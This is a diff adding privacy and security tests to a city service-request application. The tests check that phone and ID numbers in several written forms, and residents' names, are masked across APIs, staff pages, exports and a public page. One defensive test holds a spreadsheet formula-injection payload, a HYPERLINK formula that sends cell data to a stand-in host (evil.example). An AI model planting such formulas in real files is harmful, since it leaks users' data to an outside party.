@@ -188,3 +188,98 @@ def test_database_outage_is_a_503_in_open311_too(client, reported, monkeypatch) 
     monkeypatch.setattr(open311_views.query, "find_reports", down)
     response = call(client, "get", f"{O311}/requests.json", query_string={"api_key": reported["key"]})
     assert response.status_code == 503
+
+
+# -- every written form of a phone or ID number, everywhere residents' text is shown (issue 17 item 11) ------------
+
+WRITTEN_FORMS = ("139-1234-5678", "+86 139 1234 5678", "１３９１２３４５６７８", "370202199001011234")
+
+
+def _digit_runs_of(text: str) -> str:
+    """The text with full-width digits made ASCII and separators removed, to look for a number in any form."""
+    import unicodedata
+
+    return "".join(ch for ch in unicodedata.normalize("NFKC", text) if ch not in " -\u3000")
+
+
+def _assert_no_written_number(text: str, where: str) -> None:
+    flat = _digit_runs_of(text)
+    assert "13912345678" not in flat, f"phone number in {where}"
+    assert "370202199001011234" not in flat and "19900101" not in flat, f"ID number in {where}"
+
+
+def test_open311_list_masks_phones_and_id_numbers_in_any_form(client, service_headers) -> None:
+    from service_api.open311.keys import create_key
+
+    _, key = create_key("privacy partner 3")
+    db.session.commit()
+    for form in WRITTEN_FORMS:
+        created = call(client, "post", "/api/v1/reports", service_headers, json={
+            "description": f"五四广场垃圾桶满了，联系我{form}", "address": "五四广场", "channel": "hotline"})
+        assert created.status_code == 201, created.json
+    for url in ("/requests.json", "/requests.xml"):
+        response = call(client, "get", f"{O311}{url}", query_string={"api_key": key, "extensions": "true"})
+        assert response.status_code == 200
+        assert response.get_data(as_text=True).count("五四广场垃圾桶满了") == len(WRITTEN_FORMS)
+        _assert_no_written_number(response.get_data(as_text=True), url)
+
+
+def _closed_case_with(comment: str, outcome: str, contact_name: str = "王小明") -> Case:
+    from datetime import timedelta
+
+    from service_api.models import CaseEvent, Rating, Report, utcnow
+
+    at = utcnow() - timedelta(days=1)
+    case = Case(case_no="C370202-20260101-00091", status="closed", source_channel="hotline", matter_code="06042",
+                description="垃圾满溢", outcome=outcome, created_at=at, closed_at=at)
+    db.session.add(case)
+    db.session.flush()
+    report = Report(tracking_no="R20260101000091", channel="hotline", description="垃圾满溢", case_id=case.id,
+                    contact_phone="13912345678", contact_name=contact_name, created_at=at)
+    db.session.add(report)
+    db.session.flush()
+    db.session.add(CaseEvent(case_id=case.id, report_id=report.id, action="receive", to_status="received",
+                             actor_type="resident", actor_name=contact_name, note=f"居民补充：{comment}"))
+    db.session.add(Rating(case_id=case.id, report_id=report.id, rating="unsatisfied", comment=comment,
+                          channel="hotline"))
+    db.session.commit()
+    return case
+
+
+@pytest.mark.parametrize("form", WRITTEN_FORMS)
+def test_staff_pages_exports_and_public_page_mask_numbers_in_comments(client, staff_client, form) -> None:  # noqa: F811
+    case = _closed_case_with(f"还是很脏，打我{form}", f"已清运，回访电话{form}")
+    console, _ = staff_client("admin")
+    for url in (f"/staff/cases/{case.case_no}", "/staff/stats", "/staff/stats/export.xlsx"):
+        response = console.get(url)
+        assert response.status_code == 200, url
+        text = _text(response)
+        assert "还是很脏" in text, url
+        _assert_no_written_number(text, url)
+    public = call(client, "get", "/r/R20260101000091")
+    assert public.status_code == 200 and "已清运" in public.get_data(as_text=True)
+    _assert_no_written_number(public.get_data(as_text=True), "/r/ public page")
+
+
+def test_staff_see_resident_names_masked_in_case_events(client, staff_client, make_staff) -> None:  # noqa: F811
+    case = _closed_case_with("太慢", "已清运", contact_name="王先生")
+    _, dispatcher = make_staff("dispatcher")
+    detail = call(client, "get", f"/api/v1/cases/{case.case_no}", dispatcher).json
+    assert [e["actor_name"] for e in detail["events"]] == ["王*生"]
+    assert detail["reports"][0]["contact_name"] == "王*生"
+    console, _ = staff_client("dispatcher")
+    page = console.get(f"/staff/cases/{case.case_no}").get_data(as_text=True)
+    assert "王先生" not in page and "王*生" in page
+
+
+def test_exports_never_run_residents_text_as_a_formula(staff_client) -> None:  # noqa: F811
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+    _closed_case_with(attack, "已清运")
+    console, _ = staff_client("reviewer")
+    book = load_workbook(io.BytesIO(console.get("/staff/stats/export.xlsx?group_by=matter").data))
+    cells = [cell for row in book["不满意评价"].iter_rows() for cell in row]
+    comment = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
+    assert comment.data_type == "s" and not str(comment.value).startswith("=")
+    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
